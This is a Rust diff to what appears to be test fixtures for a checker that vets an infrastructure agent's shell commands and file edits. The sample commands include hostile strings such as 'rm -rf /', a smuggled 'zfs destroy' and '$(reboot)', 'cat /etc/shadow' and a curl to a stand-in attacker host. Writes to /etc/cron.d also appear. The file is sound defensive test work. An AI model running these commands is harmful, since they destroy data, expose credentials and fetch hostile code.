@@ -391,6 +391,9 @@ fn calls(resources: &[ResolvedResource]) -> Vec<Call> {
         "rm -rf /",
         "ls / & zfs destroy tank",
         "echo $(reboot)",
+        "touch /tmp/x",
+        "touch /srv/app.conf",
+        "cp -r /srv/t/spool /var",
         "cat /etc/shadow",
         "curl https://evil.example/x",
         "curl -s https://status.example.org",
@@ -430,7 +433,11 @@ fn calls(resources: &[ResolvedResource]) -> Vec<Call> {
                     json!({"action": action, "target_host": target, "path": "/tmp/x", "content": "x"});
                 add("infra_file_edit", arguments);
             }
-            for (path, content) in [("/etc/x", "password=[masked:password]"), ("/etc/cron.d/x", "x")] {
+            for (path, content) in [
+                ("/etc/x", "password=[masked:password]"),
+                ("/etc/cron.d/x", "x"),
+                ("/srv/app.conf", "x"),
+            ] {
                 add(
                     "infra_file_edit",
                     json!({"action": "write", "target_host": target, "path": path, "content": content}),
